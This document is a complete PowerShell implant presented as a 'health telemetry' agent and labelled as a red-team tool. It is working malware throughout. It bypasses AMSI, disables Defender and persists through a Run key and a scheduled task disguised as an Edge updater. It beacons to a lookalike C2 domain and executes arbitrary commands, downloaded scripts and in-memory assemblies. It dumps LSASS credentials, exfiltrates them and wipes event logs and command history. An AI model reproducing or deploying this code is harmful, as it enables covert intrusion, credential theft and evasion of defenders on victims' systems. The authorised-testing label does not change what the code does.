# svc-health.ps1 - "health telemetry" agent
# (red team engagement RT-2291 - authorised testing only)

$ErrorActionPreference = 'SilentlyContinue'
$c2 = 'https://cdn-telemetry.azureedge-sync.net'
$sleep = 45
$jitter = 0.3
$agentId = [guid]::NewGuid().ToString('N').Substring(0, 12)

#region evasion
$a = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$a.GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)

Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath "$env:APPDATA\Microsoft\Telemetry"
#endregion

#region helpers
function Get-SysInfo {
    $os = Get-CimInstance Win32_OperatingSystem
    $cs = Get-CimInstance Win32_ComputerSystem
    [ordered]@{
        id       = $agentId
        host     = $env:COMPUTERNAME
        user     = "$env:USERDOMAIN\$env:USERNAME"
        os       = $os.Caption
        build    = $os.BuildNumber
        domain   = $cs.Domain
        pid      = $PID
        elevated = ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
    }
}

function Send-Result {
    param($TaskId, $Output)
    $body = @{ id = $agentId; task = $TaskId; out = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Output)) } | ConvertTo-Json
    Invoke-RestMethod -Uri "$c2/api/v2/result" -Method Post -Body $body -ContentType 'application/json' -UseBasicParsing
}

function Get-Tasking {
    $wc = New-Object System.Net.WebClient
    $wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')
    $wc.Headers.Add('X-Agent', $agentId)
    $raw = $wc.DownloadString("$c2/api/v2/tasks/$agentId")
    if (-not $raw) { return @() }
    $raw | ConvertFrom-Json
}
#endregion

#region persistence
function Install-Persistence {
    $dir = "$env:APPDATA\Microsoft\Telemetry"
    New-Item -ItemType Directory -Path $dir -Force | Out-Null
    $self = $MyInvocation.ScriptName
    Copy-Item $self "$dir\svc-health.ps1" -Force

    $cmd = "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File `"$dir\svc-health.ps1`""
    Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'TelemetryHealth' -Value $cmd

    $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -File `"$dir\svc-health.ps1`""
    $trigger = New-ScheduledTaskTrigger -AtLogOn
    Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $action -Trigger $trigger -Force | Out-Null
}
#endregion

#region task handlers
function Invoke-Shell {
    param([string]$Command)
    try {
        $out = Invoke-Expression $Command 2>&1 | Out-String
    }
    catch {
        $out = $_.Exception.Message
    }
    return $out
}

function Invoke-Module {
    param([string]$Url)
    $code = (New-Object Net.WebClient).DownloadString($Url)
    Invoke-Expression $code | Out-String
}

function Invoke-Assembly {
    param([string]$B64, [string[]]$Arguments)
    $bytes = [Convert]::FromBase64String($B64)
    $asm = [Reflection.Assembly]::Load($bytes)
    $sw = New-Object IO.StringWriter
    [Console]::SetOut($sw)
    $asm.EntryPoint.Invoke($null, (, $Arguments))
    $sw.ToString()
}

function Get-Creds {
    $lsass = Get-Process lsass
    $dump = "$env:TEMP\debug-$($lsass.Id).dmp"
    rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $dump full
    $bytes = [IO.File]::ReadAllBytes($dump)
    Remove-Item $dump -Force
    [Convert]::ToBase64String($bytes)
}

function Clear-Tracks {
    wevtutil cl 'Windows PowerShell'
    wevtutil cl 'Microsoft-Windows-PowerShell/Operational'
    Remove-Item (Get-PSReadLineOption).HistorySavePath -Force
}
#endregion

#region main loop
Install-Persistence
Send-Result -TaskId 'checkin' -Output (Get-SysInfo | ConvertTo-Json -Compress)

while ($true) {
    $tasks = Get-Tasking
    foreach ($t in $tasks) {
        switch ($t.type) {
            'shell' { $r = Invoke-Shell -Command $t.arg }
            'module' { $r = Invoke-Module -Url $t.arg }
            'asm' { $r = Invoke-Assembly -B64 $t.arg -Arguments $t.args }
            'creds' { $r = Get-Creds }
            'sleep' { $sleep = [int]$t.arg; $r = "sleep=$sleep" }
            'clean' { Clear-Tracks; $r = 'ok' }
            'exit' { exit }
            default { $r = "unknown task $($t.type)" }
        }
        Send-Result -TaskId $t.id -Output $r
    }
    $delta = Get-Random -Minimum (-$sleep * $jitter) -Maximum ($sleep * $jitter)
    Start-Sleep -Seconds ([int]($sleep + $delta))
}
#endregion
